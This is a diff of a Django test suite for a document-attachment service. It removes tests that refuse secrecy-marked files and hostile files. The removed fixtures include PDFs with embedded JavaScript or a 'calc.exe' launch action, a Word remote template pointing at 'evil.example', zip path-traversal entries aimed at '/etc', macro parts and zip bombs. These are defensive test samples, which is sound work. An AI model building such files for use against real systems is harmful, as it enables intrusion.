@@ -1,63 +1,29 @@
+"""Attachments: what is taken and given back, what is refused, what is kept of it, and how it is given."""
+
 import io
-import zipfile
 
 import pytest
-import xlwt
 from a_document import (
-    a_compound,
     a_docx,
     a_picture,
     a_zip,
     an_ofd,
-    an_official,
     an_xlsx,
     box,
     exif,
-    with_part,
 )
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.db import transaction
 from django.utils import timezone
-from pypdf import PdfReader, PdfWriter
-from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
+from some_papers import a_pdf, a_word_file, an_old_workbook, left_behind, refused
 
-from qingfeng.documents import attachments, packages, storage
+from qingfeng.documents import attachments, storage
 from qingfeng.documents.attachments import discard_orphans, erase, keep, opened, response_for
-from qingfeng.documents.body import Paragraph
 from qingfeng.documents.models import Attachment, Slip
-from qingfeng.documents.refusal import Damaged, NoRoom, Refused
-from qingfeng.documents.rendering import pdf_of
+from qingfeng.documents.refusal import Damaged, NoRoom
 from qingfeng.journal.models import JournalEntry
 
 pytestmark = pytest.mark.django_db
-
-
-def a_pdf(text="督办单"):
-    return pdf_of(an_official(body=(Paragraph(text),), annexes=()))
-
-
-def an_old_workbook(text="加油明细"):
-    book = xlwt.Workbook()
-    book.add_sheet("一").write(0, 0, text)
-    out = io.BytesIO()
-    book.save(out)
-    return out.getvalue()
-
-
-def a_word_file(text="督办", *, locked=False, streams=None):
-    head = bytearray(b"\xec\xa5" + bytes(510))
-    head[11] = locked
-    return a_compound({"WordDocument": bytes(head) + text.encode("utf-16-le"), **(streams or {})})
-
-
-def refused(data, name):
-    with pytest.raises(Refused) as refusal:
-        keep(data, name)
-    return refusal.value
-
-
-def left_behind(folder):
-    return [file for file in folder.rglob("*") if file.is_file()] if folder.exists() else []
 
 
 GOOD = {
@@ -148,181 +114,6 @@ def test_the_same_content_is_stored_once_whatever_its_names(attachments_folder):
 
     assert first.sha256 == second.sha256
     assert len(left_behind(attachments_folder)) == 1
-
-
-SECRET = {
-    "机密★1年 方案.txt": "正文".encode,
-    "方案.txt": "机密★1年\n正文".encode,
-    "名单.csv": lambda: "密级：秘密\n甲,乙".encode("gb18030"),
-    "方案.docx": lambda: a_docx("份号 000001", "秘密★10年", "正文"),
-    "名单.xlsx": lambda: an_xlsx(["绝密★"], ["甲"]),
-    "方案.ofd": lambda: an_ofd("秘密", "★", "5年"),
-    "方案.doc": lambda: a_word_file("机密★长期"),
-    "名单.xls": lambda: an_old_workbook("秘密★三年"),
-    "材料.zip": lambda: a_zip({"甲.txt": "机密★\n正文"}),
-    "材料二.zip": lambda: a_zip({"【绝密】/甲.txt": "正文"}),
-}
-
-
-@pytest.mark.parametrize("name", SECRET)
-def test_a_secrecy_mark_is_refused_with_the_lawful_route_and_noted_without_content(name, attachments_folder):
-    """保守国家秘密法: such documents go by confidential carrier or another network."""
-    refusal = refused(SECRET[name](), name)
-
-    assert refusal.code == "secrecy_mark"
-    assert "confidential" in refusal.then
-    assert left_behind(attachments_folder) == []
-    entry = JournalEntry.objects.get()
-    assert entry.kind == "documents.attachment_refused"
-    assert entry.said["facts"] == {"reason": "secrecy_mark"}
-    assert not any(word in bytes(entry.body).decode() for word in ("机密", "秘密", "绝密", "方案", "名单"))
-
-
-def test_a_mark_in_the_text_of_a_pdf_is_refused():
-    import typst
-
-    marked = typst.compile("秘密★5年\n\n正文".encode(), format="pdf")
-
-    assert refused(marked, "方案.pdf").code == "secrecy_mark"
-
-
-def test_a_star_in_a_run_of_its_own_hides_no_mark():
-    paper = with_part(
-        a_docx("甲"),
-        "word/document.xml",
-        "<w:document xmlns:w='x'><w:p><w:r><w:t>秘密</w:t></w:r><w:r><w:t>★</w:t></w:r></w:p></w:document>",
-    )
-
-    assert refused(paper, "方案.docx").code == "secrecy_mark"
-
-
-@pytest.mark.parametrize("text", ["全体干部应当保守国家秘密，遵守保密纪律。", "本单位不产生机密级载体。"])
-def test_words_about_secrecy_are_no_mark(text):
-    for name, data in (
-        ("保密承诺书.docx", a_docx(text)),
-        ("保密.txt", text.encode()),
-        ("保密.pdf", a_pdf(text)),
-    ):
-        assert keep(data, name).text_searched
-
-
-def test_a_scan_says_that_it_has_no_text_to_search():
-    assert not keep(a_picture(), "扫描.png").text_searched
-    assert not keep(a_zip({"a.txt": "甲", "b.png": a_picture()}), "材料.zip").text_searched
-
-
-def an_active_pdf():
-    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(a_pdf())))
-    action = DictionaryObject(
-        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/J#53"): TextStringObject("app.alert(1)")}
-    )
-    names = ArrayObject([TextStringObject("a"), writer._add_object(action)])
-    writer.root_object[NameObject("/Names")] = DictionaryObject(
-        {NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): names})}
-    )
-    out = io.BytesIO()
-    writer.write(out)
-    return out.getvalue()
-
-
-def a_launching_pdf():
-    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(a_pdf())))
-    action = DictionaryObject(
-        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")}
-    )
-    writer.root_object[NameObject("/OpenAction")] = action
-    out = io.BytesIO()
-    writer.write(out)
-    return out.getvalue()
-
-
-def a_locked_pdf(password):
-    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(a_pdf())))
-    writer.encrypt(user_password=password, owner_password="owner", algorithm="RC4-128")  # noqa: S106 - of a test file
-    out = io.BytesIO()
-    writer.write(out)
-    return out.getvalue()
-
-
-def a_remote_template():
-    rels = (
-        '<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
-        'relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
-        "</Relationships>"
-    )
-    return with_part(a_docx("甲"), "word/_rels/settings.xml.rels", rels)
-
-
-HOSTILE = {
-    "宏.docx": (lambda: with_part(a_docx("甲"), "word/vbaProject.bin", b"x"), "macros"),
-    "宏.xlsx": (lambda: with_part(an_xlsx(["甲"]), "xl/macrosheets/sheet1.xml", b"<x/>"), "macros"),
-    "宏.doc": (lambda: a_word_file(streams={"Macros": b"x"}), "macros"),
-    "宏.xls": (lambda: a_compound({"Workbook": b"x", "_VBA_PROJECT_CUR": b"x"}), "macros"),
-    "远程.docx": (a_remote_template, "outside"),
-    "脚本.pdf": (an_active_pdf, "active"),
-    "启动.pdf": (a_launching_pdf, "active"),
-    "锁.pdf": (lambda: a_locked_pdf("secret"), "locked"),
-    "锁.doc": (lambda: a_word_file(locked=True), "locked"),
-    "锁.xls": (lambda: a_compound({"Workbook": b"\x09\x08\x02\x00ab\x2f\x00\x02\x00ab"}), "locked"),
-    "锁.xlsx": (lambda: a_compound({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}), "locked"),
-    "实体.docx": (
-        lambda: with_part(a_docx("甲"), "word/document.xml", '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'),
-        "damaged",
-    ),
-    "出走.zip": (lambda: a_zip({"../../etc/cron.d/x.txt": "x"}), "bad_names"),
-    "绝对.zip": (lambda: a_zip({"/etc/x.txt": "x"}), "bad_names"),
-    "反斜.zip": (lambda: a_zip({"..\\x.txt": "x"}), "bad_names"),
-    "程序.zip": (lambda: a_zip({"a.txt": b"MZ\x90\x00"}), "program"),
-    "网页.zip": (lambda: a_zip({"a.html": "<html>"}), "markup"),
-    "套娃.zip": (lambda: a_zip({"b.zip": a_zip({"a.txt": "x"})}), "archive_inside"),
-    "空.zip": (lambda: a_zip({}) or b"", "wrong_type"),
-}
-
-
-@pytest.mark.parametrize("name", HOSTILE)
-def test_what_could_run_hide_or_lead_out_is_refused(name, attachments_folder):
-    make, code = HOSTILE[name]
-
-    assert refused(make(), name).code == code
-    assert left_behind(attachments_folder) == []
-
-
-def test_a_pdf_that_anybody_may_open_is_taken_though_it_is_encrypted():
-    assert keep(a_locked_pdf(""), "通知.pdf").text_searched
-
-
-def test_a_zip_bomb_is_refused_by_what_it_claims():
-    assert refused(a_zip({"bomb.txt": b"0" * (packages.LARGE + 1)}), "炸弹.zip").code == "too_large_inside"
-    assert (
-        refused(a_zip({f"{n}.txt": "" for n in range(packages.MOST_MEMBERS + 1)}), "多.zip").code
-        == "too_large_inside"
-    )
-
-
-def test_a_bomb_that_lies_about_its_size_is_stopped_while_it_unpacks(monkeypatch):
-    monkeypatch.setattr(packages, "LARGEST_PART", 1000)
-    sheet = b"<x>" + b"0" * 5000 + b"</x>"
-
-    assert (
-        refused(with_part(a_docx("甲"), "word/document.xml", sheet), "炸弹.docx").code == "too_large_inside"
-    )
-
-
-def test_a_locked_archive_is_refused():
-    data = bytearray(a_zip({"a.txt": "x"}))
-    data[6] |= 1
-    data[data.index(b"PK\x01\x02") + 8] |= 1
-
-    assert refused(bytes(data), "锁.zip").code == "locked"
-
-
-def test_an_archive_is_packed_anew_without_what_its_pictures_told():
-    data = a_zip({"甲/照片.jpg": a_picture("JPEG", exif=exif()), "说明.txt": "说明"})
-
-    kept = keep(data, "材料.zip")
-    with opened(kept) as held, zipfile.ZipFile(io.BytesIO(held.read())) as archive:
-        assert sorted(archive.namelist()) == ["甲/照片.jpg", "说明.txt"]
-        assert b"PHONEMAKER" not in archive.read("甲/照片.jpg")
 
 
 def test_a_file_larger_than_its_kind_may_be_is_refused(settings):
